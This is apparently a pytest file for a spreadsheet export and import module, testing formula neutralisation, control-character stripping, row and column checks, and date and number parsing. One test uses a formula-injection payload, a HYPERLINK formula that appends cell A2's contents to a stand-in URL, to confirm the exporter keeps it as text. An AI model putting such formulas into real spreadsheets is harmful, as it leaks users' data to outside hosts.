import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from common.xlsx import (
    ImportRefused,
    parse_count,
    parse_date,
    read_checked,
    workbook_response,
)
from tests.places.xlsx import xlsx_upload


def _problems(error):
    return [(p.row, p.column, p.reason) for p in error.value.problems]


def test_export_keeps_text_that_looks_like_a_formula_as_text():
    response = workbook_response("a.xlsx", [("s", ["名称"], [["=1+1"], ["普通"]])])

    book = load_workbook(io.BytesIO(response.content))
    cell = book.active["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_export_keeps_a_header_that_looks_like_a_formula_as_text():
    header = ['=HYPERLINK("http://example.invalid/?"&A2,"x")', "名称"]
    response = workbook_response("a.xlsx", [("s", header, [["x", "y"]])])

    cell = load_workbook(io.BytesIO(response.content)).active["A1"]
    assert (cell.value, cell.data_type) == (header[0], "s")


def test_export_drops_control_characters_a_sheet_cannot_hold():
    response = workbook_response("a.xlsx", [("s", ["名\x01称"], [["a\x0bb\x1f"]])])

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert (sheet["A1"].value, sheet["A2"].value) == ("名称", "ab")


def test_read_checked_reports_a_repeated_column(db):
    upload = xlsx_upload(["名称", "代码", "代码"], [["甲", "1", "2"]])

    with pytest.raises(ImportRefused) as error:
        read_checked(upload, ["名称", "代码"])

    assert _problems(error) == [(1, "代码", "该列重复出现。")]


def test_read_checked_refuses_an_empty_file(db):
    with pytest.raises(ImportRefused) as error:
        read_checked(xlsx_upload(["名称"], []), ["名称"])

    assert _problems(error) == [(2, "", "文件中没有数据行。")]


def test_read_checked_refuses_too_many_rows(db, monkeypatch):
    monkeypatch.setattr("common.xlsx.MAX_IMPORT_ROWS", 3)

    with pytest.raises(ImportRefused) as error:
        read_checked(xlsx_upload(["名称"], [["a"], ["b"], ["c"], ["d"]]), ["名称"])

    assert _problems(error)[0][0] == 5


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2025-07-01", (2025, 7, 1)),
        ("2025/7/1", (2025, 7, 1)),
        ("2025年7月1日", (2025, 7, 1)),
        ("2025-07-01 00:00:00", (2025, 7, 1)),
        ("20250701", (2025, 7, 1)),
    ],
)
def test_parse_date_reads_the_ways_dates_are_written(text, day):
    assert parse_date(text) == dt.date(*day)


@pytest.mark.parametrize("text", ["2025-02-30", "明天", "07/01/2025"])
def test_parse_date_refuses_other_text(text):
    with pytest.raises(ValueError):
        parse_date(text)


@pytest.mark.parametrize("text", ["-5", "3.5", "三百", "１２"])
def test_parse_count_refuses_what_is_not_a_whole_number(text):
    with pytest.raises(ValueError):
        parse_count(text)


def test_parse_count_allows_thousands_separators():
    assert parse_count("1,200") == 1200
